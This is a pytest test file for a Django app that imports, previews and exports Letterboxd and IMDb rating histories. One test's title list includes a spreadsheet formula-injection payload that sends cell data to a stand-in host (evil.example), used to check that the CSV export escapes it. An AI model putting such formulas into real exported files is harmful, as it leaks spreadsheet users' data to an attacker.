"""Bring your history: Letterboxd / IMDb exports are parsed, matched, previewed, confirmed, exported."""
import csv
import io
import zipfile
from datetime import datetime

import pytest
from celery import current_app
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone

from catalog.history_import import (
    HistoryFileError,
    apply_history_import,
    confirm_history_import,
    create_history_import,
    export_letterboxd_csv,
    imdb_to_stars,
    parse_history_file,
    title_key,
)
from catalog.models import Movie, Rating, WatchlistEntry
from catalog.services import add_to_watchlist, rate_movie
from recommendations.models import HistoryImport
from tests.factories import make_movie, make_rating, make_user

pytestmark = pytest.mark.django_db

LETTERBOXD_RATINGS = (
    "Date,Name,Year,Letterboxd URI,Rating\n"
    "2024-01-02,The Matrix,1999,https://boxd.it/2b0k,4.5\n"
    "2024-01-03,Amelie,2001,https://boxd.it/2aZg,5\n"
    "2024-01-04,Solaris,1972,https://boxd.it/1Vjs,3\n"
    "2024-01-05,A Film Nobody Has,1987,https://boxd.it/zzzz,2.5\n"
)
LETTERBOXD_WATCHLIST = "Date,Name,Year,Letterboxd URI\n2024-02-01,Heat,1995,https://boxd.it/2a1q\n"
IMDB_HEADER = (
    "Const,Your Rating,Date Rated,Title,Original Title,URL,Title Type,IMDb Rating,Runtime (mins),Year,"
    "Genres,Num Votes,Release Date,Directors\n"
)


def imdb_csv(*rows):
    lines = [
        f'{const},{rating},2023-05-01,"{title}","{title}",https://www.imdb.com/title/{const}/,{kind},8.1,120,{year},'
        f'"Drama",1000,{year}-01-01,"Someone"\n'
        for const, rating, title, year, kind in rows
    ]
    return (IMDB_HEADER + "".join(lines)).encode()


def letterboxd_zip(files, folder="letterboxd-someone-2024-03-01-10-00-utc/"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(folder + name, text)
    return buffer.getvalue()


@pytest.fixture
def catalogue():
    return {
        "matrix": make_movie("Matrix, The", year=1999),
        "amelie": make_movie("Amélie", year=2001, alternative_titles="Le Fabuleux Destin d'Amélie Poulain"),
        "solaris_72": make_movie("Solaris", year=1972),
        "solaris_02": make_movie("Solaris", year=2002),
        "heat": make_movie("Heat", year=1995),
        "godfather": make_movie("The Godfather", year=1972, imdb_id="tt0068646"),
    }


@pytest.fixture
def eager_celery():
    previous = current_app.conf.task_always_eager
    current_app.conf.task_always_eager = True
    yield
    current_app.conf.task_always_eager = previous


def test_title_key_ignores_accents_case_and_articles():
    assert title_key("The Matrix") == title_key("Matrix, The") == title_key("matrix") == "matrix"
    assert title_key("Amélie") == title_key("AMELIE")
    assert title_key("L'Avventura") == title_key("Avventura, L'") == "avventura"
    assert title_key("A") == "a"  # a one-word title is never emptied


def test_letterboxd_ratings_are_matched_by_accent_and_article_insensitive_title_and_year(catalogue):
    user = make_user()
    job = create_history_import(user=user, filename="ratings.csv", data=LETTERBOXD_RATINGS.encode())

    assert job.source == HistoryImport.Source.LETTERBOXD
    by_title = {row["title"]: row for row in job.rows}
    assert by_title["The Matrix"]["status"] == "matched"
    assert by_title["The Matrix"]["movie_id"] == catalogue["matrix"].pk
    assert by_title["Amelie"]["movie_id"] == catalogue["amelie"].pk
    assert by_title["Solaris"]["movie_id"] == catalogue["solaris_72"].pk  # the year decides
    assert by_title["A Film Nobody Has"]["status"] == "unmatched"
    assert by_title["The Matrix"]["raw_score"] == 4.5


def test_alternative_titles_match_and_a_one_year_difference_is_ambiguous(catalogue):
    user = make_user()
    data = (
        "Date,Name,Year,Letterboxd URI,Rating\n"
        "2024-01-01,Le Fabuleux Destin d'Amélie Poulain,2001,,4\n"
        "2024-01-01,Heat,1996,,4\n"
        "2024-01-01,Solaris,,,4\n"
    ).encode()
    rows = create_history_import(user=user, filename="ratings.csv", data=data).rows

    assert rows[0]["status"] == "matched" and rows[0]["movie_id"] == catalogue["amelie"].pk
    assert rows[1]["status"] == "ambiguous" and rows[1]["candidate_ids"] == [catalogue["heat"].pk]
    assert rows[2]["status"] == "ambiguous"
    assert set(rows[2]["candidate_ids"]) == {catalogue["solaris_72"].pk, catalogue["solaris_02"].pk}


def test_imdb_ratings_match_by_imdb_id_first_then_by_title(catalogue):
    user = make_user()
    data = imdb_csv(
        ("tt0068646", 10, "Il padrino", 1972, "Movie"),  # title differs: only the id can match it
        ("tt0133093", 9, "The Matrix", 1999, "Movie"),  # id unknown here: falls back to the title
        ("tt0903747", 10, "Breaking Bad", 2008, "TV Series"),
    )
    job = create_history_import(user=user, filename="ratings.csv", data=data)

    assert job.source == HistoryImport.Source.IMDB
    assert [(row["title"], row["status"], row["movie_id"]) for row in job.rows] == [
        ("Il padrino", "matched", catalogue["godfather"].pk),
        ("The Matrix", "matched", catalogue["matrix"].pk),
    ]


def test_letterboxd_zip_export_gives_ratings_and_watchlist_but_not_deleted_entries(catalogue):
    data = letterboxd_zip({"ratings.csv": LETTERBOXD_RATINGS, "watchlist.csv": LETTERBOXD_WATCHLIST,
                           "deleted/ratings.csv": "Date,Name,Year,Letterboxd URI,Rating\n2020-01-01,Heat,1995,,1\n",
                           "profile.csv": "Date Joined,Username\n2020-01-01,someone\n"})
    parsed = parse_history_file("letterboxd.zip", data)

    assert [(row.kind, row.title) for row in parsed.rows] == [
        ("rating", "The Matrix"), ("rating", "Amelie"), ("rating", "Solaris"),
        ("rating", "A Film Nobody Has"), ("watchlist", "Heat"),
    ]


def test_preview_page_saves_nothing_and_shows_each_group(client, catalogue):
    user = make_user()
    client.force_login(user)
    upload = io.BytesIO(LETTERBOXD_RATINGS.encode())
    upload.name = "ratings.csv"

    response = client.post(reverse("history:upload"), {"file": upload}, follow=True)

    assert response.status_code == 200
    page = response.content.decode()
    assert "Matched" in page and "Not found" in page and "A Film Nobody Has" in page
    assert not Rating.objects.filter(user=user).exists()
    assert HistoryImport.objects.get(user=user).status == HistoryImport.Status.PREVIEW


def test_confirm_saves_exactly_the_chosen_rows(client, catalogue, eager_celery, django_capture_on_commit_callbacks):
    user = make_user()
    client.force_login(user)
    data = (
        "Date,Name,Year,Letterboxd URI,Rating\n"
        "2024-01-01,The Matrix,1999,,4.5\n"  # 0 matched, kept
        "2024-01-01,Heat,1995,,2\n"  # 1 matched, unticked
        "2024-01-01,Solaris,,,3.5\n"  # 2 ambiguous: the user picks the 2002 one
        "2024-01-01,Amelie,2001,,5\n"  # 3 matched, kept
        "2024-01-01,Unknown Thing,1950,,1\n"  # 4 unmatched
    ).encode()
    job = create_history_import(user=user, filename="ratings.csv", data=data)
    matched = [i for i, row in enumerate(job.rows) if row["status"] == "matched"]

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("history:confirm", args=[job.pk]),
            {"include": [i for i in matched if i != 1], "choice_2": catalogue["solaris_02"].pk},
        )

    assert response.status_code == 302
    assert dict(Rating.objects.filter(user=user).values_list("movie_id", "score")) == {
        catalogue["matrix"].pk: 4.5,
        catalogue["solaris_02"].pk: 3.5,
        catalogue["amelie"].pk: 5.0,
    }
    progress = client.get(reverse("history:progress", args=[job.pk])).json()
    assert progress["status"] == "done" and progress["percent"] == 100 and progress["ratings_saved"] == 3


def test_applying_twice_or_with_watchlist_duplicates_never_duplicates(catalogue):
    user = make_user()
    make_rating(user, catalogue["heat"], 3.0)
    data = letterboxd_zip({
        "ratings.csv": "Date,Name,Year,Letterboxd URI,Rating\n2024-01-01,The Matrix,1999,,4\n2024-01-02,The Matrix,1999,,5\n",
        "watchlist.csv": "Date,Name,Year,Letterboxd URI\n2024-01-01,The Matrix,1999,\n2024-01-01,Heat,1995,\n"
                         "2024-01-01,Amelie,2001,\n",
    })
    for _ in range(2):
        job = create_history_import(user=user, filename="export.zip", data=data)
        confirm_history_import(job, choices={}, excluded=set())
        apply_history_import(job.pk)

    assert dict(Rating.objects.filter(user=user).values_list("movie_id", "score")) == {
        catalogue["matrix"].pk: 5.0,  # the later row wins
        catalogue["heat"].pk: 3.0,  # already rated: not put on the watchlist
    }
    assert list(WatchlistEntry.objects.filter(user=user).values_list("movie_id", flat=True)) == [catalogue["amelie"].pk]


def test_an_import_that_fails_midway_keeps_nothing_and_says_why(catalogue):
    user = make_user()
    job = create_history_import(user=user, filename="ratings.csv", data=LETTERBOXD_RATINGS.encode())
    confirm_history_import(job, choices={}, excluded=set())
    job.rows[1]["score"] = 7.0  # a row corrupted after confirmation: the second film cannot be rated
    job.save(update_fields=["rows"])

    with pytest.raises(ValidationError):
        apply_history_import(job.pk)

    job.refresh_from_db()
    assert job.status == HistoryImport.Status.FAILED and "Nothing was imported" in job.error
    assert not Rating.objects.filter(user=user).exists()


@pytest.mark.parametrize(
    ("scale", "expected"),
    [
        ("halve", {1: 0.5, 2: 1.0, 7: 3.5, 10: 5.0}),
        ("whole_stars", {1: 1.0, 2: 1.5, 5: 3.0, 6: 3.0, 7: 3.5, 9: 4.5, 10: 5.0}),
    ],
)
def test_imdb_scale_maps_one_to_ten_onto_half_stars(scale, expected):
    assert {value: imdb_to_stars(value, scale) for value in expected} == expected
    assert all(imdb_to_stars(v, scale) * 2 == int(imdb_to_stars(v, scale) * 2) for v in range(1, 11))


def test_imdb_import_applies_the_chosen_scale(catalogue):
    user = make_user()
    data = imdb_csv(("tt0068646", 6, "The Godfather", 1972, "Movie"))
    job = create_history_import(user=user, filename="ratings.csv", data=data)
    confirm_history_import(job, choices={}, excluded=set(), scale="whole_stars")
    apply_history_import(job.pk)

    assert Rating.objects.get(user=user).score == 3.0  # 6/10 → 3 stars; "halve" would give 3


def test_export_round_trips_through_the_letterboxd_importer(client, catalogue):
    alice, bob = make_user(), make_user()
    make_rating(alice, catalogue["matrix"], 4.5)
    make_rating(alice, catalogue["amelie"], 2.0)
    make_rating(alice, catalogue["solaris_02"], 3.0)
    client.force_login(alice)

    response = client.get(reverse("history:export"))
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    exported = response.content.decode()
    assert exported.splitlines()[0] == "Date,Name,Year,Letterboxd URI,Rating"
    assert exported == export_letterboxd_csv(alice)

    job = create_history_import(user=bob, filename="ratings.csv", data=exported.encode())
    confirm_history_import(job, choices={}, excluded=set())
    apply_history_import(job.pk)
    assert dict(Rating.objects.filter(user=bob).values_list("movie_id", "score")) == dict(
        Rating.objects.filter(user=alice).values_list("movie_id", "score")
    )


@pytest.mark.parametrize(
    ("filename", "data", "message"),
    [
        ("people.csv", b"name,age\nalice,3\n", "not a Letterboxd or IMDb export"),
        ("photo.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary file"),
        ("other.zip", None, "no ratings.csv or watchlist.csv"),
        ("broken.zip", b"PK\x03\x04garbage", "not a readable zip"),
        ("ratings.csv", b"Date,Name,Year,Letterboxd URI,Rating\n2024-01-01,Heat,1995,,7\n", "line 2"),
        ("ratings.csv", IMDB_HEADER.encode() + b"tt1,11,,X,X,,Movie,,,1990,,,,\n", "line 2"),
        ("empty.csv", b"", "is empty"),
        ("watched.csv", b"Date,Name,Year,Letterboxd URI\n2024-01-01,Heat,1995,\n", "without their ratings"),
    ],
)
def test_malformed_or_foreign_files_get_a_clear_message_and_store_nothing(client, catalogue, filename, data, message):
    if data is None:
        data = letterboxd_zip({"notes.txt": "hello"})
    user = make_user()
    with pytest.raises(HistoryFileError, match=message):
        create_history_import(user=user, filename=filename, data=data)

    client.force_login(user)
    upload = io.BytesIO(data)
    upload.name = filename
    response = client.post(reverse("history:upload"), {"file": upload})
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not HistoryImport.objects.exists()
    assert not Rating.objects.exists() and not WatchlistEntry.objects.exists()


def test_preview_page_query_count_does_not_grow_with_the_file(client, django_assert_max_num_queries):
    user = make_user()
    client.force_login(user)
    for i in range(30):
        make_movie(f"Film {i}", year=1990 + i)
        make_movie(f"Twin {i}", year=1989 + i)  # the file says 1990 + i: two near candidates
        make_movie(f"Twin {i}", year=1991 + i)
    lines = [f"2024-01-01,Film {i},{1990 + i},,4\n2024-01-01,Twin {i},{1990 + i},,3\n" for i in range(30)]
    data = ("Date,Name,Year,Letterboxd URI,Rating\n" + "".join(lines) + "2024-01-01,Nothing,1900,,1\n").encode()
    job = create_history_import(user=user, filename="ratings.csv", data=data)

    with django_assert_max_num_queries(5):
        response = client.get(reverse("history:preview", args=[job.pk]))
    assert response.status_code == 200
    page = response.content.decode()
    assert page.count('type="checkbox" name="include"') == 30
    assert page.count("None of these") == 30


# --- a faithful diary -------------------------------------------------------------------------


def diary(user):
    """{movie id: (day rated, stars)} of the user's ratings."""
    return {
        rating.movie_id: (timezone.localtime(rating.updated_at).date().isoformat(), rating.score)
        for rating in Rating.objects.filter(user=user)
    }


def import_file(user, filename, data, **confirm):
    job = create_history_import(user=user, filename=filename, data=data)
    confirm_history_import(job, choices={}, excluded=set(), **confirm)
    return apply_history_import(job.pk)


def test_imported_ratings_keep_their_diary_dates_and_pages_show_them(client, catalogue):
    user = make_user()
    import_file(user, "ratings.csv", LETTERBOXD_RATINGS.encode())
    import_file(user, "ratings.csv", imdb_csv(("tt0068646", 8, "The Godfather", 1972, "Movie")))

    assert diary(user) == {
        catalogue["matrix"].pk: ("2024-01-02", 4.5),
        catalogue["amelie"].pk: ("2024-01-03", 5.0),
        catalogue["solaris_72"].pk: ("2024-01-04", 3.0),
        catalogue["godfather"].pk: ("2023-05-01", 4.0),  # IMDb's "Date Rated"
    }
    client.force_login(user)
    page = client.get(reverse("catalog:my_ratings")).content.decode()
    assert "Rated 2 Jan 2024" in page and "Rated 1 May 2023" in page


def test_export_then_reimport_is_a_round_trip_with_identical_dates_and_stars(client, catalogue):
    alice, bob = make_user(), make_user()
    import_file(alice, "ratings.csv", LETTERBOXD_RATINGS.encode())
    make_rating(alice, catalogue["heat"], 1.5)  # rated on the site today
    client.force_login(alice)

    exported = client.get(reverse("history:export")).content.decode()
    assert '2024-01-02,"Matrix, The",1999,,4.5' in exported.splitlines()
    import_file(bob, "movierec-ratings.csv", exported.encode())

    assert diary(bob) == diary(alice)
    assert len(diary(bob)) == 4


def test_a_newer_rating_on_the_site_is_kept_and_an_older_one_replaced(catalogue):
    user = make_user()
    make_rating(user, catalogue["matrix"], 1.0)  # today: newer than the file's 2024-01-02
    rate_movie(user=user, movie=catalogue["amelie"], score=1.0, rated_at=timezone.make_aware(datetime(2020, 1, 1)))

    job = import_file(user, "ratings.csv", LETTERBOXD_RATINGS.encode())

    assert diary(user)[catalogue["matrix"].pk][1] == 1.0
    assert diary(user)[catalogue["amelie"].pk] == ("2024-01-03", 5.0)
    assert job.ratings_saved == 2  # Amélie and Solaris


def test_a_film_imported_as_rated_leaves_the_watchlist_as_when_rated_on_the_site(client, catalogue):
    user = make_user()
    for movie in (catalogue["matrix"], catalogue["heat"]):
        add_to_watchlist(user=user, movie=movie)

    import_file(user, "ratings.csv", LETTERBOXD_RATINGS.encode())
    assert list(WatchlistEntry.objects.filter(user=user).values_list("movie_id", flat=True)) == [catalogue["heat"].pk]

    client.force_login(user)
    client.post(reverse("catalog:rate", args=[catalogue["heat"].pk]), {"score": "4"})
    assert not WatchlistEntry.objects.filter(user=user).exists()


def test_letterboxd_watchlist_csv_fills_the_watchlist_in_its_own_order(client, catalogue):
    user = make_user()
    data = (
        "Date,Name,Year,Letterboxd URI\n"
        "2022-06-01,Heat,1995,https://boxd.it/2a1q\n"
        "2023-09-15,Amelie,2001,https://boxd.it/2aZg\n"
    ).encode()

    job = import_file(user, "watchlist.csv", data)

    assert job.watchlist_saved == 2
    added = {entry.movie_id: timezone.localtime(entry.added_at).date().isoformat() for entry in WatchlistEntry.objects.filter(user=user)}
    assert added == {catalogue["heat"].pk: "2022-06-01", catalogue["amelie"].pk: "2023-09-15"}
    client.force_login(user)
    page = client.get(reverse("catalog:watchlist")).content.decode()
    assert page.index("Amélie") < page.index("Heat")  # most recently added first, as on Letterboxd


FORMULA_TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-30-", "@Home", "'=already quoted", "'71"]


def test_the_export_escapes_formula_titles_and_the_importer_restores_them_exactly(client):
    alice, bob = make_user(), make_user()
    films = [make_movie(title, year=2000 + index) for index, title in enumerate(FORMULA_TITLES)]
    for film in films:
        make_rating(alice, film, 3.5)
    client.force_login(alice)

    exported = client.get(reverse("history:export")).content.decode()

    names = [row["Name"] for row in csv.DictReader(io.StringIO(exported))]
    assert not [name for name in names if name.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'71" in names  # an apostrophe that starts a real title is left alone
    import_file(bob, "ratings.csv", exported.encode())
    assert diary(bob) == diary(alice)
    assert len(diary(bob)) == len(FORMULA_TITLES)


def test_a_preview_of_fifteen_hundred_films_can_be_confirmed(client):
    """One field per film reaches the server: more than Django's default limit of 1,000."""
    user = make_user()
    Movie.objects.bulk_create([Movie(title=f"Film {index}", year=1990) for index in range(1500)])
    data = "Date,Name,Year,Letterboxd URI,Rating\n" + "".join(f"2023-01-01,Film {i},1990,,3\n" for i in range(1500))
    job = create_history_import(user=user, filename="ratings.csv", data=data.encode())
    client.force_login(user)

    response = client.post(reverse("history:confirm", args=[job.pk]), {"include": [str(i) for i in range(1500)]})

    assert response.status_code == 302
    job.refresh_from_db()
    assert (job.status, job.total) == (HistoryImport.Status.QUEUED, 1500)
